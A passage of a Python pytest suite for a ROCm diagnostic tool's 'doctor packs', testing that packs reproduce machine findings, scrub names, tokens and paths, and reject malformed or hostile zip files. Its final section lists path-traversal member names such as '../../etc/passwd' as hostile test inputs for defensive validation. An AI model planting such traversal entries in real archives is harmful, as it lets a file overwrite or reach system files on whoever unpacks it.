"""Packs: as good as the machine, without anybody's name, and no danger to whoever opens one."""

from __future__ import annotations

import base64
import contextlib
import io
import json
import os
import random
import re
import tempfile
import zipfile
from pathlib import Path
from typing import TYPE_CHECKING
from unittest import mock

import pytest
from hypothesis import HealthCheck, Phase, assume, given, settings
from hypothesis import strategies as st

from rocenv.core.errors import RocenvError
from rocenv.data.load import load
from rocenv.doctor import pack, pack_file, run
from rocenv.doctor.check import Check
from rocenv.doctor.checks import CHECKS
from rocenv.doctor.nameless import Nameless, hides
from rocenv.doctor.reduced import Reduced
from rocenv.doctor.seen import Seen
from rocenv.home import Home
from rocenv.host import registry, system32
from rocenv.host import windows as host_windows
from rocenv.host.defender import excluded
from rocenv.host.registry import paths_are_limited
from rocenv.host.system32 import names_in
from rocenv.system import machine
from tests.host.roots import Root

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from rocenv.core.language import Language
    from rocenv.data.rows import Matrix
    from rocenv.doctor.scene import Scene

NVIDIA, RX_6800, RX_7900, RAPHAEL = 0x10DE, 0x73BF, 0x744C, 0x164E


@pytest.fixture(scope="module")
def matrix() -> Matrix:
    return load()


@pytest.fixture
def root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Root:
    path = tmp_path / "machine"
    path.mkdir()
    monkeypatch.setenv("ROCENV_SYSROOT", str(path))
    monkeypatch.delenv("ROCENV_TARGET", raising=False)
    monkeypatch.delenv("HSA_OVERRIDE_GFX_VERSION", raising=False)
    return Root(path)


def findings(examined: pack.Examined) -> list[tuple[str, str, str]]:
    return [(each.check, each.code, each.severity) for each in examined.findings]


def plain(root: Root) -> None:
    root.kernel().cpu().gpu(1, RX_6800, 100300)


def no_device(root: Root) -> None:
    plain(root)
    (root.path / "dev/kfd").unlink()


def igpu_first(root: Root) -> None:
    root.kernel().cpu().gpu(1, RAPHAEL, 100306, units=2).gpu(2, RX_7900, 110000)


def no_driver(root: Root) -> None:
    root.kernel().cpu().card("0000:03:00.0", RX_6800, driver="")


def beside_nvidia(root: Root) -> None:
    root.kernel().cpu().card("0000:09:00.0", 0x2204, vendor=NVIDIA, driver="nvidia")


def wsl(root: Root) -> None:
    root.wsl()


def wsl_with_an_old_driver(root: Root) -> None:
    pnp = r"PCI\VEN_1002&DEV_744C&SUBSYS_0E3B1002&REV_C8"
    root.wsl({"Name": "AMD Radeon RX 7900 XTX", "PNPDeviceID": pnp, "DriverVersion": "32.0.21013.1000"})


def reset(root: Root) -> None:
    plain(root)
    root.put(
        "dev/kmsg", "[ 10.0] amdgpu 0000:01:00.0: amdgpu: GPU reset begin!\n[ 11.0] usb 1-1: new device\n"
    )


def network_cache(root: Root) -> None:
    plain(root)
    home = os.environ["HOME"]
    root.put(
        "proc/self/mountinfo",
        "1 0 8:1 / / rw - ext4 /dev/sda1 rw\n"
        f"2 1 0:50 / {home} rw - nfs4 fileserver:/export rw,addr=10.1.2.3\n",
    )


def windows(root: Root) -> None:
    device = {"Name": "AMD Radeon RX 6800", "gcnArchName": "gfx1030", "totalGlobalMem": "15.98 GB"}
    root.windows(device, controllers=[{"Name": "AMD Radeon RX 6800", "DriverVersion": "32.0.12033.1030"}])


class TestFrom:
    """What is found in a pack is what was found on the machine."""

    @pytest.mark.parametrize(
        "build",
        [
            plain,
            no_device,
            igpu_first,
            no_driver,
            beside_nvidia,
            wsl,
            wsl_with_an_old_driver,
            reset,
            network_cache,
            windows,
        ],
    )
    def test_the_same_is_found(
        self,
        root: Root,
        matrix: Matrix,
        tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch,
        build: object,
    ) -> None:
        monkeypatch.setenv("HOME", "/home/alexandra")
        assert callable(build)
        build(root)
        file = tmp_path / "pack.zip"
        there = pack.collect(file, Home(tmp_path / "home"), matrix, "en")
        monkeypatch.delenv("ROCENV_SYSROOT")
        monkeypatch.setenv("HOME", "/home/somebody")
        monkeypatch.setenv("HSA_OVERRIDE_GFX_VERSION", "10.3.0")
        here = pack.examine(file, matrix, "en")
        assert findings(here) == findings(there)
        assert here.checks == there.checks
        assert here.scene.host == there.scene.host
        assert here.scene.elsewhere
        assert not machine.examined_elsewhere(), "the pack stands in for the machine no longer"

    def test_the_cases_find_something(self, root: Root, matrix: Matrix, tmp_path: Path) -> None:
        igpu_first(root)
        there = pack.collect(tmp_path / "pack.zip", Home(tmp_path / "home"), matrix, "en")
        assert "igpu_first" in [each.check for each in there.findings]

    def test_what_only_the_machine_could_try_is_told(
        self, root: Root, matrix: Matrix, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """A live check finds nothing in a copy; the pack knows what it saw."""

        def tried(scene: Scene) -> Seen | None:
            values = {"check": "locks", "error": "ENOLCK"}
            return None if machine._given else Seen("check_failed", values, ("x",))

        monkeypatch.setattr(run, "CHECKS", (Check("check_failed", tried, "any"),))
        plain(root)
        file = tmp_path / "pack.zip"
        pack.collect(file, Home(tmp_path / "home"), matrix, "en")
        chinese = pack.examine(file, matrix, "zh")
        assert [(each.check, each.evidence) for each in chinese.findings] == [("check_failed", ("x",))]
        assert "ENOLCK" in chinese.findings[0].detail
        assert re.search("[一-龥]", chinese.findings[0].title)

    def test_checks_can_be_chosen(self, root: Root, matrix: Matrix, tmp_path: Path) -> None:
        no_device(root)
        file = tmp_path / "pack.zip"
        pack.collect(file, Home(tmp_path / "home"), matrix, "en")
        assert pack.examine(file, matrix, "en", names=("igpu_first",)).findings == ()


class TestFile:
    """The file itself: readable, and nobody's is written over."""

    def test_each_text_can_be_read_by_a_person(self, root: Root, matrix: Matrix, tmp_path: Path) -> None:
        plain(root)
        file = tmp_path / "pack.zip"
        pack.collect(file, Home(tmp_path / "home"), matrix, "en")
        with zipfile.ZipFile(file) as opened:
            assert opened.testzip() is None
            names = opened.namelist()
            assert "Linux version 6.8.0" in opened.read("files/proc/version").decode()
            manifest = json.loads(opened.read("manifest.json"))
            assert "rocenv doctor --from" in opened.read("README.txt").decode()
        assert {each["member"] for each in manifest["files"]} == {name for name in names if "files/" in name}
        assert manifest["opened"] == {"/dev/kfd": ""}
        assert not [name for name in names if re.search(r'[<>:"|?*\\]', name)], (
            "Windows could not unpack these"
        )

    @pytest.mark.parametrize(("language", "word"), [("en", "look into it"), ("zh", "查看")])
    def test_its_owner_is_told_what_is_in_it(
        self,
        root: Root,
        matrix: Matrix,
        tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch,
        language: Language,
        word: str,
    ) -> None:
        monkeypatch.setenv("HSA_OVERRIDE_GFX_VERSION", "10.3.0")
        plain(root)
        file = tmp_path / "my pack.zip"
        pack.collect(file, Home(tmp_path / "home"), matrix, language)
        told = "\n".join(pack.about(file, language))
        assert word in told
        assert f"rocenv doctor --from '{file}'" in told
        assert "HSA_OVERRIDE_GFX_VERSION" in told

    def test_no_file_is_written_over(self, root: Root, matrix: Matrix, tmp_path: Path) -> None:
        plain(root)
        file = tmp_path / "thesis.odt"
        file.write_text("years of work")
        with pytest.raises(RocenvError, match="there already"):
            pack.collect(file, Home(tmp_path / "home"), matrix, "en")
        assert file.read_text() == "years of work"
        link = tmp_path / "link"
        link.symlink_to("nowhere")
        with pytest.raises(RocenvError, match="there already"):
            pack.collect(link, Home(tmp_path / "home"), matrix, "en")

    def test_a_folder_that_is_not_there(self, root: Root, matrix: Matrix, tmp_path: Path) -> None:
        plain(root)
        with pytest.raises(RocenvError, match="cannot write"):
            pack.collect(tmp_path / "no" / "pack.zip", Home(tmp_path / "home"), matrix, "en")

    def test_a_variable_that_sounds_secret_is_left_out_even_if_asked_for(
        self, root: Root, matrix: Matrix, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        def curious(scene: Scene) -> Seen | None:
            scene.environ.get("HF_TOKEN")
            scene.environ.get("ROCR_VISIBLE_DEVICES")
            return None

        monkeypatch.setattr(run, "CHECKS", (Check("curious", curious, "any"),))
        for name, value in (
            ("HF_TOKEN", "hf_abcdef"),
            ("ROCR_VISIBLE_DEVICES", "0"),
            ("DIARY", "dear diary"),
        ):
            monkeypatch.setenv(name, value)
        plain(root)
        file = tmp_path / "pack.zip"
        pack.collect(file, Home(tmp_path / "home"), matrix, "en")
        manifest, _ = pack_file.read(file)
        assert manifest.variables == {"ROCR_VISIBLE_DEVICES": "0"}


NAMES = st.one_of(
    st.from_regex(r"[a-z][a-z0-9_-]{2,14}", fullmatch=True),
    st.text("abcdefghijklmnopqrstuvwxyzäöüßéñłø李明王小红김민준이яюдмитрий", min_size=2, max_size=10),
    st.from_regex(r"[A-Z][a-z]{2,9}\.[A-Z][a-z]{2,9}", fullmatch=True),
)


@st.composite
def secrets(draw: st.DrawFn) -> dict[str, str]:
    """What is private about a machine, each different from all else that is there."""
    names = draw(st.lists(NAMES, min_size=7, max_size=7, unique_by=str.casefold))
    folded = [name.casefold() for name in names]
    assume(all(hides(name) and len(name) > 3 for name in names))
    assume(not any(one in other for one in folded for other in folded if one != other))
    return private(names, random.Random(draw(st.integers(0, 1 << 32))))


def private(names: list[str], chance: random.Random) -> dict[str, str]:
    def digits(count: int, alphabet: str = "0123456789abcdef") -> str:
        return "".join(chance.choices(alphabet, k=count))

    user, other, host, server, volume, full, project = names
    return {
        "user": user,
        "other": other,
        "host": host,
        "server": f"{server}-{digits(3)}-nas",
        "volume": f"{volume}-{digits(3)}-crypt",
        "project": f"{project}-{digits(3)}-deal",
        "full": f"Zx{digits(3)} {full}qx",
        "mac": "a" + ":".join(digits(2) for _ in range(6))[1:],
        "email": f"{digits(6)}@{digits(5)}.example.net",
        "uuid": "-".join(digits(count) for count in (8, 4, 4, 4, 12)),
        "serial": "SN" + digits(10, "0123456789ABCDEFGH"),
        "unique": "7" + digits(17, "0123456789"),
        "address": ".".join(str(chance.randint(11, 250)) for _ in range(4)),
        "address6": "2001:db8:" + ":".join("f" + digits(3) for _ in range(6)),
        "machine_id": "c" + digits(31),
        "sid": "S-1-5-21-" + "-".join("1" + digits(9, "0123456789") for _ in range(3)),
    }


def haunted(root: Root, who: dict[str, str]) -> list[str]:
    """Plant secrets wherever a machine has some; return the paths that a check reads."""
    user, other, host, number = who["user"], who["other"], who["host"], who["serial"]
    root.kernel().cpu().gpu(1, RX_6800, 100300, unique_id=int(who["unique"]))
    texts = {
        "etc/passwd": (
            "root:x:0:0:root:/root:/bin/sh",
            f"{user}:x:1000:1000:{who['full']},,,:/home/{user}:/bin/sh",
            f"{other}:x:1001:1001::/home/{other}:/bin/sh",
        ),
        "etc/group": (f"render:x:992:{user},{other}", f"{user}:x:1000:", f"{other}:x:1001:{user}"),
        "etc/hostname": (host,),
        "proc/cmdline": (
            f"BOOT_IMAGE=/vmlinuz root=UUID={who['uuid']} cryptdevice=UUID={who['uuid']}:{who['volume']} "
            f"ip={who['address']} hostname={host} amdgpu.gttsize=1024 iommu=pt",
        ),
        "proc/self/mountinfo": (
            f"1 0 8:1 / / rw - ext4 /dev/mapper/{who['volume']} rw",
            f"2 1 0:50 / /home/{user} rw - nfs4 {who['server']}:/export/{user} rw,addr={who['address']}",
            f"4 1 0:52 / /mnt/{who['project']} rw - ext4 /dev/{who['project']} rw",
            f"3 1 0:51 / /media/{other}/{who['volume']} rw - cifs //{who['server']}/x rw,username={user}",
        ),
        "dev/kmsg": (
            f"[ 1.0] usb 1-1: SerialNumber: {number}",
            f"[ 2.0] amdgpu: serial={number}",
            f"[ 3.0] {host} kernel: amdgpu ethernet {who['mac']} {who['address6']}",
            f"[ 4.0] r8169: {who['mac']}",
            f"[ 5.0] vfio-pci: guest {who['project']}",
            f"[ 6.0] audit: pci name=/srv/{who['project']}/x.pdf comm={who['project']}",
            f"[ 7.0] amdgpu: ring gfx timeout, process {who['project']} pid 77 "
            f"thread {who['project']}:cs0 pid 78",
            f"[ 8.0] amdgpu 0000:01:00.0: [gfxhub0] page fault (src_id:0) for process {who['project']} pid 9",
            f"Nov 20 10:00:00 {who['project']} kernel: [ 9.0] amdgpu: GPU reset begin!",
        ),
        "sys/bus/pci/devices/0000:01:00.0/unique_id": (who["unique"],),
        "sys/class/net/eth0/address": (who["mac"],),
        "etc/machine-id": (who["machine_id"],),
        "etc/ld.so.conf.d/x.conf": (f"/data/{who['project']}/lib",),
        f"data/{who['project']}/lib/libamdhip64.so.6": ("",),
        f"home/{user}/notes-of-{user}.txt": (
            f'{user} {who["email"]} {user.upper()} "{user}\'s" file:///home/{user}/x /home/{other}/y',
            f"https://{user}:pw@{host}.local/ {who['machine_id']} {who['sid']} {who['full']}",
            f"{base64.b64encode(user.encode()).decode()} {user.encode().hex()}",
        ),
        "var/log/application_errors.xml": (
            f"<Event><System><Computer>{host}</Computer><Security UserID='{who['sid']}'/></System>",
            f"<EventData><Data Name='Path'>C:\\Users\\{user}\\a.exe</Data></EventData></Event>",
        ),
    }
    for name, lines in texts.items():
        root.put(name, "\n".join(lines) + "\n")
    return [f"/{name}" for name in texts]


def collected(who: dict[str, str], matrix: Matrix) -> str:
    """Return all that is in the pack of a machine full of secrets, in small letters."""
    with tempfile.TemporaryDirectory() as folder, lived_in(who, Path(folder, "m")):
        root = Root(Path(folder, "m"))
        root.path.mkdir()
        paths = haunted(root, who)

        def reads(scene: Scene) -> Seen | None:
            texts = [machine.read_attribute(path)[0] for path in paths]
            machine.list_folder(f"/home/{who['user']}")
            machine.list_folder("/home")
            machine.list_folder(f"/data/{who['project']}/lib")
            machine.mount_of(Path(f"/mnt/{who['project']}/sub"))
            machine.tried("lock", f"/mnt/{who['project']}/{who['project']}", lambda: "", "")
            machine.open_errno(f"/home/{who['user']}/x")
            machine.mount_of(Path(scene.environ["XDG_CACHE_HOME"]))
            assert scene.environ.get("USER")
            assert scene.environ.get("HIP_PATH")
            return Seen("check_failed", {"check": "reads", "error": " ".join(texts)}, tuple(texts))

        with mock.patch.object(run, "CHECKS", (Check("reads", reads, "any"), *CHECKS)):
            file = Path(folder, "pack.zip")
            pack.collect(file, Home(Path(f"/home/{who['user']}/rocenv")), matrix, "en")
        return readable(file).casefold()


def readable(file: Path) -> str:
    """Return all that is in a pack, names of its files included."""
    with zipfile.ZipFile(file) as opened:
        parts = [name + "\n" + opened.read(name).decode("utf-8") for name in opened.namelist()]
    return "\n".join(parts)


def spellings(secret: str) -> set[str]:
    quoted = json.dumps(secret)[1:-1]
    found = {secret, secret.upper(), quoted, quoted.replace("\\", "\\\\")}
    if len(secret.encode()) > 3:
        found |= {secret.encode().hex(), base64.b64encode(secret.encode()).decode().rstrip("=")[:-1]}
    return {each.casefold() for each in found}


@contextlib.contextmanager
def lived_in(who: dict[str, str], path: Path) -> Iterator[None]:
    variables = {
        "ROCENV_SYSROOT": str(path),
        "HOME": f"/home/{who['user']}",
        "USER": who["user"],
        "LOGNAME": who["user"],
        "XDG_CACHE_HOME": f"/home/{who['user']}/cache of {who['user']}",
        "HIP_PATH": f"//{who['address']}/{who['user']}",
        "PATH": f"/srv/{who['project']}/rocm/bin:/opt/{who['project']}/bin:/usr/bin",
        "LD_LIBRARY_PATH": f"/data/{who['project']}/lib:/opt/rocm-{who['project']}/lib",
        "TORCH_HOME": f"/srv/{who['project']}/torch",
        "AMD_ACCOUNT": who["project"],
        "CUDA_PROXY": f"http://{who['user']}:{who['serial']}@{who['server']}:3128",
    }
    with mock.patch.dict(os.environ, variables, clear=True):
        yield


@pytest.fixture(scope="module")
def collecting(matrix: Matrix) -> Callable[[dict[str, str]], str]:
    return lambda who: collected(who, matrix)


@pytest.fixture(scope="module")
def of_nobody(matrix: Matrix) -> str:
    """The pack of the same machine, in other hands: what is in it too is no secret."""
    names = ["qqqqqa", "qqqqqb", "qqqqqc", "qqqqqd", "qqqqqe", "qqqqqf", "qqqqqg"]
    return collected(private(names, random.Random(1)), matrix)


class TestNameless:
    """Nothing private is in a pack."""

    # A failure is told as it is: making it smaller takes minutes.
    @settings(
        max_examples=40,
        deadline=None,
        suppress_health_check=list(HealthCheck),
        phases=(Phase.generate,),
        derandomize=True,
    )
    @given(who=secrets())
    def test_no_secret_is_in_a_pack(
        self, of_nobody: str, collecting: Callable[[dict[str, str]], str], who: dict[str, str]
    ) -> None:
        text = collecting(who)
        for name, secret in (who | {"family": who["full"].split()[1]}).items():
            for spelling in spellings(secret) if secret.casefold() not in of_nobody else ():
                assert spelling in of_nobody or spelling not in text, name

    def test_what_is_needed_is_there(self, of_nobody: str) -> None:
        for text in (
            "amdgpu.gttsize=1024",
            "/home/user/p",
            "render:x:992:other,user",
            "/home/user rw - nfs4 server:/share",
            "amdgpu: serial=0",
            "ring gfx timeout, process x pid 0 thread x pid 0",
        ):
            assert text in of_nobody

    def test_of_a_log_and_of_packages_only_what_is_about_gpus(self) -> None:
        reduced = Reduced(frozenset(), {}, str)
        log = "[1] usb 1-1: Product: Diary\n[2] amdgpu: ring gfx timeout\n"
        assert reduced.file("/dev/kmsg", log) == "[2] amdgpu: ring gfx timeout\n"
        status = "Package: diary\nVersion: 1\n\nPackage: rocm-core\nVersion: 6.4\nMaintainer: A B <a@b.org>\n"
        assert reduced.file("/var/lib/dpkg/status", status) == "Package: rocm-core\nVersion: 6.4"
        assert reduced.folder("/opt", ("diary", "rocm-6.4.0")) == ("rocm-6.4.0",)
        assert reduced.folder("/dev", ("kfd", "sda")) == ("kfd", "sda")

    def test_of_a_log_only_what_a_check_looks_for(self) -> None:
        reduced = Reduced(frozenset(), {}, Nameless({}).text)
        kept = ("[1] Linux version 6.8.0\n", "[2] amdgpu 0000:03:00.0: amdgpu: GPU reset begin!\n")
        log = (
            "[3] nvme 0000:05:00.0: pci function, model Samsung SSD S6B0NL0T123456X\n"
            "[4] vfio-pci: guest 'win11-merger'\n"
            "[5] drm: EDID monitor name DELL U2723QE\n"
            "[6] amdgpu 0000:03:00.0: vgaarb: deactivate vga console\n"
        )
        assert reduced.file("/var/log/dmesg", log + "".join(kept)) == "".join(kept)
        line = (
            "Nov 20 10:00:00 r kernel: [7] amdgpu: ring gfx timeout, process a b.exe pid 1 thread a:b pid 3"
        )
        hidden = reduced.file("/var/log/kern.log", line)
        assert hidden == "[7] amdgpu: ring gfx timeout, process x pid 0 thread x pid 0"

    @pytest.mark.parametrize(
        ("text", "secret"),
        [
            ("D:\\张三的文件\\sd", "张三"),
            ("/data/liming/x", "liming"),
            ("mail li.ming now", "ming"),
            ("lming ming_li", "ming"),
            ("/srv/MingLi-thesis/x", "mingli"),
            ("C:\\Documents and Settings\\Petra\\x", "petra"),
            ("/Volumes/Petra/x", "petra"),
            ("\\\\NAS01\\share\\x", "nas01"),
            ("aabb.ccdd.eeff", "ccdd"),
            ("S/N: 8XK2LP3", "8xk2lp3"),
            ("SN=8XK2LP3", "8xk2lp3"),
            ("unique id: 7f3a91c2d5e8b604", "7f3a"),
            ("https://hub/x?a=1&token=abcq", "abcq"),
            ("hf_abcdefghijklmnop", "abcdef"),
            ("key sk-live-123456", "123456"),
            ("OPENAI_API_KEY=zzz9", "zzz9"),
            ("petra-laptop.fritz.box", "petra"),
            ("proxy.acme.example:3128", "acme"),
            ("uid=1000(petra)", "petra"),
            ("by-id/nvme-Samsung_SSD_S6B0NL0T12", "s6b0"),
        ],
    )
    def test_other_forms(self, text: str, secret: str) -> None:
        hidden = Nameless({"Li Ming": "user", "张三": "user"}).text(text)
        assert secret not in hidden.casefold()

    @pytest.mark.parametrize(
        "text",
        ["/etc/rc.local", "https://github.com/ROCm/ROCm", "libamdhip64.so.6", "test kernel 6.8.0-45-generic"],
    )
    def test_what_looks_like_a_name_and_is_none(self, text: str) -> None:
        assert Nameless({"Tes Tan": "user"}).text(text) == text

    def test_whoever_is_called_like_a_part_of_a_machine(self) -> None:
        names = dict.fromkeys(("ring", "reset", "pci", "kfd", "max"), "user")
        nameless = Nameless(names)
        for line in (
            "amdgpu 0000:03:00.0: ring gfx_0.0.0 timeout, GPU reset(1) failed",
            "/sys/bus/pci/devices /dev/kfd /sys/class/kfd/kfd",
            "max_engine_clk_fcompute 2500",
        ):
            assert nameless.text(line) == line
        assert nameless.text("/home/ring/x /data/max/y") == "/home/user/x /data/user/y"

    @pytest.mark.parametrize("codec", ["utf-16-le", "utf-16-be", "utf-16", "latin-1", "gbk"])
    @pytest.mark.parametrize("name", ["alexandra", "jürgen"])
    def test_a_name_is_found_in_a_text_of_another_encoding(self, name: str, codec: str) -> None:
        data = f"C:\\Users\\{name}\\x".encode(codec, "ignore")
        hidden = Nameless({name: "user"}).text(data.decode("utf-8", "replace"))
        assert name[2:6] not in hidden.replace("\0", "")

    @pytest.mark.parametrize(
        "text",
        [
            "Linux version 6.8.0-45-generic (name@host) (gcc 13.2.0) #1 SMP",
            "DRIVER=amdgpu\nPCI_ID=1002:73BF\nPCI_SLOT_NAME=0000:03:00.0\nMODALIAS=pci:v00001002d000073BF\n",
            '"DriverVersion": "32.0.12033.1030"',
            "/opt/rocm-6.4.0/lib:/usr/lib::/lib",
            "simd_count 192\ngfx_target_version 100300\nlocation_id 768\nunique_id 0\n",
            "c10::Error at 0x7f0012345678 in at::native::add [1:2:3]",
            "C:\\Program Files\\AMD\\ROCm\\5.7\\bin",
            "2026-11-20T10:09:34.1234567Z",
            "amdgpu.ppfeaturemask=0xffffffff",
        ],
    )
    def test_what_a_machine_is_told_by_stays(self, text: str) -> None:
        assert (
            Nameless({"alexandra": "user", "bo": "user", "amd": "user", "version": "host"}).text(text) == text
        )

    def test_a_name_that_is_part_of_a_word_of_the_machine_hides_only_alone(self) -> None:
        nameless = Nameless({"topol": "user", "sim": "user"}, fixed=("topology",))
        assert (
            nameless.text("topology simd_count topol /home/sim/x") == "topology simd_count user /home/user/x"
        )

    def test_a_name_that_another_encoding_cannot_write_is_not_cut_short(self) -> None:
        assert Nameless({"ñиюмüй": "user"}).text("SerialNumber: SN1 number nu") == "SerialNumber: 0 number nu"

    def test_others_who_share_the_machine(self) -> None:
        hidden = Nameless({}).text(
            r"/home/wei/x C:\Users\Wei Li\y /run/media/wei/USB d:/users/wei/z C:\Users\Public\p"
        )
        assert "wei" not in hidden.casefold()
        assert r"C:\Users\Public\p" in hidden

    def test_a_device_of_windows_loses_what_is_its_own(self) -> None:
        text = r'"PNPDeviceID": "PCI\\VEN_1002&DEV_73BF&SUBSYS_0E3A1002&REV_C1\\6&1F1E2D3C&0&00000019"'
        hidden = Nameless({}).text(text)
        assert "DEV_73BF&SUBSYS_0E3A1002&REV_C1" in hidden
        assert "1F1E2D3C" not in hidden

    def test_the_company_in_the_name_of_a_cloud_folder(self) -> None:
        assert "Contoso" not in Nameless({}).text(r"C:\Users\user\OneDrive - Contoso Ltd\sd")


class TestWindows:
    """The registry and the folders of a Windows machine hold much that is nobody's business."""

    @pytest.fixture
    def text(self, matrix: Matrix, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[str, str]:
        """Return all that is in the pack of such a machine, and what its owner is told of it."""

        def registered(key: str) -> dict[str, object]:
            if key.endswith("Paths"):
                return {"D:\\merger": 0, "D:\\sd-deal": 0}
            if key.endswith("Environment"):
                return dict(ENVIRONMENT)
            return {"LongPathsEnabled": 0, "Owner": "merger"}

        def listed(folder: str) -> list[str]:
            return ["payroll.dll", "nvcuda.dll"] if "tools" in folder else ["payroll.dll"]

        def reads(scene: Scene) -> Seen | None:
            assert registry.values("SYSTEM\\Session Manager\\Environment")
            assert paths_are_limited()
            assert excluded("D:\\sd-deal\\rocenv")
            for folder in scene.environ["PATH"].split(";"):
                assert names_in(folder)
            return None

        monkeypatch.delenv("ROCENV_SYSROOT", raising=False)
        path = "C:\\Program Files\\merger vpn;D:\\sd-deal\\tools;C:\\Windows\\System32"
        monkeypatch.setenv("PATH", path)
        monkeypatch.setenv("HIP_PATH", "D:\\sd-deal\\ROCm\\5.7")
        monkeypatch.setattr(registry, "registered", registered)
        monkeypatch.setattr(system32, "os", mock.Mock(listdir=listed))
        monkeypatch.setattr(machine, "WINDOWS", True)
        monkeypatch.setattr(host_windows, "_adapters", list)
        monkeypatch.setattr(run, "CHECKS", (Check("reads", reads, "any"),))
        file = tmp_path / "pack.zip"
        pack.collect(file, Home(tmp_path / "home"), matrix, "en")
        return readable(file).casefold(), "\n".join(pack.about(file, "en"))

    def test_secrets_stay(self, text: tuple[str, str]) -> None:
        for secret in ("sk-live", "hf_abc", "OPENAI", "HF_TOKEN", "PROXY", "CUSTOMER", "merger", "payroll"):
            assert secret.casefold() not in text[0]
        assert "sd-deal" not in text[0]

    def test_no_library_that_folders_are_told_apart_by_is_left_out(self, matrix: Matrix) -> None:
        names = {file.stands_for for row in matrix.shim_map for file in row.files}
        names |= {name for row in matrix.hip_sdk for name in (*row.runtime, *row.hiprtc)}
        libraries = [name for name in names if name.endswith(".dll")]
        assert len(libraries) > 10
        assert not [name for name in libraries if not system32.TELLING.fullmatch(name)]

    def test_what_checks_look_at_is_there_and_told(self, text: tuple[str, str]) -> None:
        for word in ("longpathsenabled", "nvcuda.dll", "hip_path", "exclusions", "\\\\rocenv", "rocm\\\\5.7"):
            assert word in text[0]
        assert "HIP_PATH" in text[1]
        assert "LongPathsEnabled" in text[1]
        assert "registry.json" in text[1]


ENVIRONMENT = {
    "OPENAI_API_KEY": "sk-live-123456",
    "HF_TOKEN": "hf_abc",
    "HTTPS_PROXY": "http://li:pw@proxy.acme.example:3128",
    "CUSTOMER": "merger",
    "HIP_PATH": "D:\\sd-deal\\ROCm\\5.7",
}


class TestPlaces:
    """Folders are as private as names, and one path still lies in another."""

    def test_a_list_keeps_what_checks_look_into(
        self, root: Root, matrix: Matrix, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        plain(root)
        root.put("srv/merger/lib/libamdhip64.so.6", "")
        lists = "/srv/merger/lib:/clients/deal/rocm/lib:/srv/other-work/lib:/opt/rocm-6.4.1/lib"
        monkeypatch.setenv("LD_LIBRARY_PATH", lists)
        monkeypatch.setenv("TORCH_HOME", "/srv/merger/torch")
        file = tmp_path / "pack.zip"
        pack.collect(file, Home(tmp_path / "home"), matrix, "en")
        shown = pack_file.read(file)[0]
        first, second, third = shown.variables["LD_LIBRARY_PATH"].split(":")
        assert re.fullmatch(r"/srv/p[0-9]+/lib", first)
        assert re.fullmatch(r"/p[0-9]+/p[0-9]+/rocm/lib", second)
        assert third == "/opt/rocm-6.4.1/lib"
        assert shown.variables["TORCH_HOME"] == first.replace("lib", "torch")
        assert shown.folders[first] == ("libamdhip64.so.6",)
        for word in ("merger", "deal", "other-work"):
            assert word not in readable(file)

    def test_a_path_in_what_a_check_saw(
        self, root: Root, matrix: Matrix, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        def tried(_scene: Scene) -> Seen:
            evidence = ("/srv/merger/a.db: malformed", "C:\\merger\\b.dll", "/usr/lib/x.so")
            return Seen("check_failed", {"check": "x", "error": "/srv/merger/a.db", "create": "sh"}, evidence)

        monkeypatch.setattr(run, "CHECKS", (Check("tried", tried, "any"),))
        plain(root)
        file = tmp_path / "pack.zip"
        pack.collect(file, Home(tmp_path / "home"), matrix, "en")
        assert "merger" not in readable(file)
        (noted,) = pack_file.read(file)[0].seen
        assert noted.evidence[2] == "/usr/lib/x.so"
        assert noted.evidence[0].startswith(noted.values["error"])
        assert "create" not in noted.values


def packed(tmp_path: Path, **changes: object) -> Path:
    """Return a pack of one file whose manifest was changed."""
    manifest = {
        "schema": 1,
        "rocenv": "0.1.0",
        "platform": "linux",
        "home": "/home/user/rocenv",
        "files": [{"path": "/proc/version", "member": "files/proc/version"}],
    } | changes
    return written(
        tmp_path, {"manifest.json": json.dumps(manifest), "files/proc/version": "Linux version 6.8"}
    )


def written(tmp_path: Path, members: dict[str, str | bytes], method: int = zipfile.ZIP_DEFLATED) -> Path:
    file = tmp_path / "hostile.zip"
    with zipfile.ZipFile(file, "w", method) as out:
        for name, data in members.items():
            out.writestr(name, data)
    return file


def refused(file: Path) -> str:
    """Return why a file is refused; there is always something to do next."""
    with pytest.raises(RocenvError) as caught, pack.opened(file):
        pass
    assert caught.value.hints
    assert not machine.examined_elsewhere()
    return caught.value.message


class TestHostile:
    """A pack comes from anybody."""

    def test_a_sound_one_is_read(self, tmp_path: Path) -> None:
        with pack.opened(packed(tmp_path)):
            assert machine.read_text("/proc/version") == "Linux version 6.8"

    def test_what_is_no_pack(self, tmp_path: Path) -> None:
        assert "there is no file" in refused(tmp_path / "none.zip")
        file = tmp_path / "log.txt"
        for data in (b"", b"no zip", b"PK\x03\x04" + b"\0" * 100, os.urandom(5000)):
            file.write_bytes(data)
            assert "damaged, or no .zip" in refused(file)
        assert "not a regular file" in refused(tmp_path)
        assert "manifest.json" in refused(written(tmp_path, {"readme": "x"}))

    @pytest.mark.skipif(os.name == "nt", reason="no named pipes")
    def test_nothing_waits(self, tmp_path: Path) -> None:
        os.mkfifo(tmp_path / "pipe")
        assert "not a regular file" in refused(tmp_path / "pipe")
        assert "not a regular file" in refused(Path("/dev/zero"))

    @pytest.mark.parametrize("schema", [0, 2, "1", None, True, 1.0, [], {}, 10**50])
    def test_another_schema(self, tmp_path: Path, schema: object) -> None:
        assert "schema" in refused(packed(tmp_path, schema=schema))

    @pytest.mark.parametrize(
        "changes",
        [
            {"platform": "amiga"},
            {"platform": []},
            {"files": "x"},
            {"files": [{"path": 1, "member": "files/x"}]},
            {"opened": {"/dev/kfd": 2}},
            {"folders": {"/": "x"}},
            {"variables": ["PATH"]},
            {"more": 1},
            {"tried": [{"what": "x", "about": "y"}]},
        ],
    )
    def test_a_manifest_that_is_not_what_it_must_be(self, tmp_path: Path, changes: dict[str, object]) -> None:
        assert "no pack" in refused(packed(tmp_path, **changes))

    @pytest.mark.parametrize(
        "member",
        [
            "../../etc/passwd",
            "/etc/passwd",
            "files/../x",
            "files/a/../../x",
            "files/..",
            "C:\\x",
